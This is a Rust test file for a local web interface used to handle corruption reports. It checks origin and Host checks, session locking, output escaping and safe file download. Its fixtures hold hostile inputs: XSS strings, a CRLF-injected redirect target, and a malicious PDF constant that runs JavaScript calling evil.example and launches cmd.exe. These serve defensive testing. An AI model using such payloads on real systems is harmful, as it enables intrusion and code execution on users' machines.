//! The pages on 127.0.0.1: who is kept out, what a stranger's text can do, and a day's work in them.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
    time::Duration,
};

use rand::rngs::OsRng;
use reqwest::{Method, RequestBuilder, StatusCode};

use crate::common::{
    PASSPHRASE,
    screen::{Page, Screen},
};

#[tokio::test]
async fn a_request_that_is_not_its_owners_gets_nothing() {
    let screen = Screen::open("lead").await;
    let reporter = screen.office.file(&[]);
    screen.unlock().await;
    let case = screen.open_case(&reporter).await;
    assert!(screen.get(&case).await.text.contains("An officer asked me for money."));

    let own = format!("http://{}", screen.address);
    let (get, post) = (Method::GET, Method::POST);
    let bare = |method: &Method| screen.http.request(method.clone(), screen.url(&case));
    let with = |method: &Method| bare(method).header("cookie", &screen.cookie);
    let other = format!("http://127.0.0.1:{}", screen.address.port() ^ 1);
    let attempts: Vec<(&str, RequestBuilder, u16)> = vec![
        ("another person of this machine", bare(&get), 403),
        ("a guessed cookie", bare(&get).header("cookie", "burkindi=AAAA"), 403),
        ("a domain that leads here", with(&get).header("host", "evil.example"), 421),
        (
            "the same with the port",
            with(&get).header("host", format!("evil.example:{}", screen.address.port())),
            421,
        ),
        ("this machine without the port", with(&get).header("host", "127.0.0.1"), 421),
        ("a page of another site", with(&get).header("sec-fetch-site", "cross-site"), 403),
        ("a page of another port", with(&get).header("sec-fetch-site", "same-site"), 403),
        ("a script of another port", with(&get).header("origin", &other), 403),
        ("a form of another site", with(&post).header("origin", "https://evil.example"), 403),
        ("a form of another port", with(&post).header("origin", &other), 403),
        ("a form of a sandbox", with(&post).header("origin", "null"), 403),
        ("a form of a program", with(&post), 403),
        (
            "a form of the other name",
            with(&post).header("origin", format!("http://localhost:{}", screen.address.port())),
            403,
        ),
        ("a form without the cookie", bare(&post).header("origin", &own), 403),
    ];
    let count = attempts.len();
    for (who, request, expected) in attempts {
        let answer = request.send().await.unwrap();
        assert_eq!(answer.status().as_u16(), expected, "{who}");
        let headers = answer.headers().clone();
        assert!(!answer.text().await.unwrap().contains("asked me for money"), "{who} reads it");
        assert_eq!(headers["cache-control"], "no-store", "{who}");
        assert!(!headers.contains_key("access-control-allow-origin"), "{who}");
    }
    let keys = screen.get("/keys").await;
    assert!(keys.text.contains(&format!("{count} strange requests")), "its owner is told");
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_say_which_rule_was_broken_and_nothing_else() {
    let screen = Screen::open("lead").await;
    let raw = |lines: &[String]| {
        let mut stream = TcpStream::connect(screen.address).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        write!(stream, "{}\r\nconnection: close\r\n\r\n", lines.join("\r\n")).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer.split(' ').nth(1).unwrap().parse::<u16>().unwrap()
    };
    let (host, cookie) = (format!("host: {}", screen.address), format!("cookie: {}", screen.cookie));
    let path = format!("/{}/en/queue/open", screen.room);
    let asked = |line: String, more: &[&str]| {
        let lines: Vec<String> = [line].into_iter().chain(more.iter().map(ToString::to_string)).collect();
        tokio::task::block_in_place(|| raw(&lines))
    };
    let get = format!("GET {path} HTTP/1.1");
    assert_eq!(asked(get.clone(), &[&host, &cookie]), 401, "let in, and locked");
    assert_eq!(asked(get.clone(), &[&host]), 403);
    assert_eq!(asked(get.clone(), &["host: evil.example", &cookie]), 421);
    assert_eq!(asked(get.clone(), &[&host, "host: evil.example", &cookie]), 421, "two hosts");
    assert_eq!(asked(format!("GET {path} HTTP/1.0"), &[&cookie]), 421, "no host");
    assert_eq!(asked(format!("GET http://evil.example{path} HTTP/1.1"), &[&host, &cookie]), 421);
    let post = format!("POST /{}/en/lock HTTP/1.1", screen.room);
    let length = "content-length: 0";
    assert_eq!(asked(post.clone(), &[&host, &cookie, length]), 403, "no origin");
    let own = format!("origin: http://{}", screen.address);
    assert_eq!(asked(post.clone(), &[&host, &cookie, length, &own]), 200);
    assert_eq!(asked(post, &[&host, &cookie, length, &own, "origin: https://evil.example"]), 403);
    let room = format!("GET /{}/en/queue/open HTTP/1.1", "A".repeat(43));
    assert_eq!(asked(room, &[&host, &cookie]), 404, "another room");
}

#[tokio::test]
async fn a_link_lets_one_browser_in_once() {
    let mut screen = Screen::open("lead").await;
    screen.unlock().await;
    let link = screen.launcher.link(&mut OsRng);
    let first = screen.http.get(&link).send().await.unwrap();
    assert_eq!(first.status(), StatusCode::OK);
    let second = screen.http.get(&link).header("accept-language", "en").send().await.unwrap();
    assert_eq!(second.status(), StatusCode::FORBIDDEN);
    assert!(!second.headers().contains_key("set-cookie"));
    assert!(second.text().await.unwrap().contains("somebody else"), "an owner who comes second is told");
    assert_eq!(screen.get("/queue/open").await.status, StatusCode::FORBIDDEN, "the browser before is out");
    screen.enter().await;
    screen.clock.advance(time::Duration::hours(13));
    assert_eq!(screen.get("/queue/open").await.status, StatusCode::FORBIDDEN, "a working day is over");
}

#[tokio::test]
async fn it_locks_itself_and_keeps_what_was_being_written() {
    let screen = Screen::open("lead").await;
    let reporter = screen.office.file(&[]);
    assert_eq!(screen.get("/queue/open").await.status, StatusCode::UNAUTHORIZED);
    let wrong = screen.post("/unlock", &[("passphrase", "guessed"), ("to", "/queue/open")]).await;
    assert_eq!(wrong.status, StatusCode::FORBIDDEN);
    assert_eq!(wrong.texts("[role=alert]").len(), 1);
    screen.unlock().await;
    let case = screen.open_case(&reporter).await;
    screen.clock.advance(time::Duration::minutes(9));
    assert_eq!(screen.ask(&Method::POST, "/here").send().await.unwrap().status(), StatusCode::NO_CONTENT);
    screen.clock.advance(time::Duration::minutes(9));
    assert_eq!(screen.get(&case).await.status, StatusCode::OK, "a sign of life");
    screen.clock.advance(time::Duration::minutes(11));
    assert_eq!(screen.ask(&Method::POST, "/here").send().await.unwrap().status(), StatusCode::UNAUTHORIZED);
    let locked =
        screen.post(&format!("{case}/notes"), &[("text", "Two lines\nof it."), ("kind", "task")]).await;
    assert_eq!(locked.status, StatusCode::UNAUTHORIZED);
    assert!(!locked.text.contains("An officer"));
    assert!(!locked.text.contains("Two lines"), "sealed until the passphrase is typed");
    let notes = format!("{case}/notes");
    let unlocked = screen.post("/unlock", &[("passphrase", PASSPHRASE), ("to", &notes)]).await;
    assert!(unlocked.to.ends_with(&notes), "{} {}", unlocked.status, unlocked.text);
    let page = screen.get(&notes).await;
    assert_eq!(page.texts("textarea"), ["Two lines\nof it."]);
    assert!(page.text.contains("value=\"task\" checked"));
    assert_eq!(screen.get(&notes).await.texts("textarea"), [""], "it comes back once");

    let messages = format!("{case}/messages");
    let left = screen.post("/lock", &[("page", &messages), ("text", "Since when?"), ("lang", "en")]).await;
    assert!(left.texts(".warn")[0].contains("Your text is kept") && !left.text.contains("Since when?"));
    assert_eq!(screen.get(&case).await.status, StatusCode::UNAUTHORIZED);
    screen.unlock().await;
    assert_eq!(screen.get(&messages).await.texts("textarea"), ["Since when?"]);
    let away = screen.post("/unlock", &[("passphrase", PASSPHRASE), ("to", "//evil.example/\r\nx: y")]).await;
    assert!(away.to.starts_with(&format!("/{}/en", screen.room)) && !away.to.contains("evil"), "{}", away.to);
}

#[tokio::test]
async fn a_strangers_text_stays_text() {
    let screen = Screen::open("lead").await;
    let hostile = "</p><script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}\u{1b}[2J & \"'";
    let mut reporter = screen.office.handler.file(&screen.office.house, &[], hostile);
    screen.office.handler.follow_up(&screen.office.house, &mut reporter, hostile);
    screen.unlock().await;
    let case = screen.open_case(&reporter).await;
    for path in ["", "/messages", "/notes", "/timeline", "/file/1"] {
        let answer = screen.ask(&Method::GET, &format!("{case}{path}")).send().await.unwrap();
        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        assert_eq!(answer.headers()["cache-control"], "no-store");
        let page = Page::of(answer).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert_eq!(page.texts("script").concat(), "", "{path}: no script of a stranger's");
        assert_eq!(page.texts("[onerror]").len(), 0, "{path}");
        assert!(!page.text.contains('\u{202e}') && !page.text.contains('\u{1b}'), "{path}");
    }
    let story = screen.get(&case).await.texts(".text").concat();
    assert!(story.contains("<script>alert(1)</script>"), "shown as it was written: {story}");
    let saved = screen.ask(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
    assert_eq!(saved.headers()["content-disposition"], "attachment; filename*=UTF-8''photo.jpg");
    assert_eq!(saved.headers()["content-type"], "application/octet-stream");
    assert!(saved.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
    assert_eq!(saved.bytes().await.unwrap(), &b"a photograph of a receipt book"[..]);
    let words = "<script>alert(1)</script>";
    let found = screen.post("/search", &[("words", words)]).await;
    assert_eq!(found.texts("script").concat(), "");
}

/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a picture.
const HOSTILE: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
    2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";

#[tokio::test]
async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
    let screen = Screen::open("lead").await;
    screen.unlock().await;
    for (name, said_to_be, tried) in [
        ("invoice.pdf", "application/pdf", false),
        ("invoice.png", "image/png", true),
        ("page.html", "text/html", false),
        ("drawing.svg", "image/svg+xml", true),
    ] {
        let office = &screen.office;
        let reporter =
            office.handler.file_with(&office.house, &[], "See the file.", (name, said_to_be, HOSTILE));
        let case = screen.open_case(&reporter).await;
        let page = screen.get(&format!("{case}/file/1")).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.text.contains("Never by a double click"), "{name}: the warning");
        // What is no picture is offered for saving alone; what is called one is tried in the confined process, which knows better.
        let shown = page.texts("img, embed, object, iframe, video, audio").len();
        assert_eq!(shown, usize::from(tried), "{name}");
        let picture = screen.get(&format!("{case}/picture/1")).await;
        assert_eq!(picture.status, StatusCode::NOT_FOUND, "{name}");
        assert!(!picture.text.contains("evil.example"), "{name}");
        // No address gives it to be looked at, only to be saved.
        let saved = screen.ask(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
        let headers = saved.headers().clone();
        assert_eq!(headers["content-type"], "application/octet-stream");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
        assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
        assert_eq!(saved.bytes().await.unwrap(), HOSTILE, "{name}: as it came");
    }
}

#[tokio::test]
async fn who_is_second_is_told_what_happened_and_keeps_the_text() {
    let screen = Screen::open("lead").await;
    let office = &screen.office;
    screen.unlock().await;
    let reporter = office.file(&[]);
    let case = screen.open_case(&reporter).await;
    let text = "We look into it.";
    let id = reporter.case;
    office.handler.follow_up_meanwhile(&office.house, reporter, "Don't. They know.");
    let late =
        screen.post(&format!("{case}/messages"), &[("go", "send"), ("lang", "en"), ("text", text)]).await;
    assert_eq!(late.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(late.texts("#write .wrong").concat().contains("was not sent"), "{:?}", late.texts(".wrong"));
    assert!(late.text.contains("They know."), "what is new stands above it");
    assert_eq!(late.texts("#write textarea"), [text], "nothing that was written is lost");
    assert!(
        office.handler.with(id, |kept| kept.replies.is_empty()),
        "an answer to what was not read is not sent"
    );
    // An act: the page says that somebody was faster.
    let reporter = office.file(&[]);
    let case = screen.open_case(&reporter).await;
    office.handler.follow_up_meanwhile(&office.house, reporter, "One more thing.");
    let late = screen.post(&format!("{case}/act/claim"), &[]).await;
    assert_eq!(late.status, StatusCode::CONFLICT);
    assert!(late.text.contains("the reporter sent something more"), "{}", late.text);
    assert_eq!(screen.post(&format!("{case}/act/claim"), &[]).await.status, StatusCode::SEE_OTHER);
    // A note says the same whatever happened: it is filed behind.
    let reporter = office.file(&[]);
    let case = screen.open_case(&reporter).await;
    office.handler.follow_up_meanwhile(&office.house, reporter, "And another.");
    let noted = screen.post(&format!("{case}/notes"), &[("text", text), ("kind", "fact")]).await;
    assert_eq!(noted.status, StatusCode::SEE_OTHER, "{}", noted.text);
    assert_eq!(screen.get(&format!("{case}/notes")).await.texts(".fact .text"), [text]);
}

#[tokio::test]
async fn a_day_in_the_pages() {
    let screen = Screen::open("lead").await;
    let mut reporter =
        screen.office.handler.file(&screen.office.house, &[], "Hier à Dakola, l’agent a pris 5 000 francs.");
    screen.unlock().await;
    let case = format!("/case/{}", reporter.case);
    let queue = screen.get("/queue/unread").await;
    assert_eq!(queue.texts("tbody tr").len(), 1);
    assert!(screen.get("/queue/mine").await.texts(".empty h2")[0].contains("no case"));
    let before = screen.get(&case).await;
    assert!(before.to.ends_with("/declare"), "nothing is shown before the declaration");
    assert!(!screen.get(&format!("{case}/declare")).await.text.contains("Dakola"));
    assert_eq!(screen.post(&format!("{case}/act/claim"), &[]).await.status, StatusCode::SEE_OTHER);
    assert_eq!(screen.get(&case).await.status, StatusCode::OK);
    assert_eq!(screen.get("/queue/mine").await.texts("tbody tr").len(), 1);
    assert_eq!(screen.get("/queue/unread").await.texts("tbody tr").len(), 0, "it was looked at");

    let messages = format!("{case}/messages");
    let letter = [("go", "letter"), ("letter", "received"), ("lang", "fr"), ("text", "")];
    let inserted = screen.post(&messages, &letter).await;
    assert!(inserted.texts("textarea")[0].starts_with("Merci pour votre signalement."));
    let held =
        [("go", "send"), ("lang", "fr"), ("text", "Merci. Quel est votre nom ? Étiez-vous à Dakola ?")];
    let page = screen.post(&messages, &held).await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(page.texts("#write .wrong li").len(), 2);
    assert!(screen.office.handler.with(reporter.case, |kept| kept.replies.is_empty()), "held back");
    let gap = screen.post(&messages, &[("go", "send"), ("lang", "fr"), ("text", "D’ici au [date].")]).await;
    assert!(gap.texts("#write .wrong")[0].contains("[date]"));
    let sent =
        screen.post(&messages, &[("go", "send"), ("lang", "fr"), ("text", "Merci. Depuis quand ?")]).await;
    assert_eq!(
        (sent.status, sent.to.ends_with("?done=replied")),
        (StatusCode::SEE_OTHER, true),
        "{}",
        sent.text
    );
    let laid_out = screen.office.handler.with(reporter.case, |kept| kept.replies[0].clone());
    assert_eq!(reporter.open(&laid_out), "Merci. Depuis quand ?");

    let notes = format!("{case}/notes");
    let added = screen.post(&notes, &[("kind", "hypothesis"), ("text", "Le même guichet qu’en mai ?")]).await;
    assert_eq!(added.status, StatusCode::SEE_OTHER);
    let page = screen.get(&notes).await;
    assert_eq!(page.texts(".hypothesis .text"), ["Le même guichet qu’en mai ?"]);
    assert!(page.texts(".fact .text").is_empty(), "facts and hypotheses are kept apart");
    assert_eq!(screen.get("/queue/unread").await.texts("tbody tr").len(), 0, "one's own acts are no news");
    screen.office.handler.follow_up(&screen.office.house, &mut reporter, "Cela continue.");
    assert_eq!(screen.get("/queue/unread").await.texts("tbody tr").len(), 1);

    let found = screen.post("/search", &[("words", "guichet"), ("stage", "received")]).await;
    assert_eq!(found.texts(".hits > li").len(), 1);
    assert_eq!(found.texts("mark"), ["guichet"]);
    assert!(found.to.is_empty(), "no word that was looked for stands in an address");
    assert_eq!(
        screen.post("/search", &[("words", "guichet"), ("stage", "decided")]).await.texts(".hits > li").len(),
        0
    );

    let acts = screen.get(&format!("{case}/actions")).await;
    assert!(
        acts.text.contains("/act/triage") && !acts.text.contains("/act/investigate"),
        "what the rules allow"
    );
    assert_eq!(screen.post(&format!("{case}/act/investigate"), &[]).await.status, StatusCode::CONFLICT);
    assert_eq!(screen.post(&format!("{case}/act/triage"), &[]).await.status, StatusCode::SEE_OTHER);
    assert!(screen.get(&case).await.texts(".strip dd")[0].contains("triaged"));
    let close = [("ending", "substantiated/recovery")];
    assert_eq!(screen.post(&format!("{case}/act/propose-close"), &close).await.status, StatusCode::SEE_OTHER);
    let acts = screen.get(&format!("{case}/actions")).await;
    assert!(acts.texts(".answer")[0].contains("Another person must approve."), "nobody closes alone");
    assert!(acts.text.contains("/act/withdraw") && !acts.text.contains("/act/approve-"), "nor is offered to");
    assert!(!acts.text.contains("/act/propose-"), "one proposal at a time");

    let asked = [("category", "FAC"), ("audience", "trader"), ("excluded", "regional")];
    let route = screen.post("/administration", &asked).await;
    assert!(
        route.texts(".answer dd")[0].contains("lead, two") && !route.texts(".answer dd")[0].contains("three")
    );
    assert_eq!(screen.get("/keys").await.texts(".checks li").len(), 6);
    assert_eq!(screen.get("/case/00000000-0000-4000-8000-000000000000").await.status, StatusCode::NOT_FOUND);
}
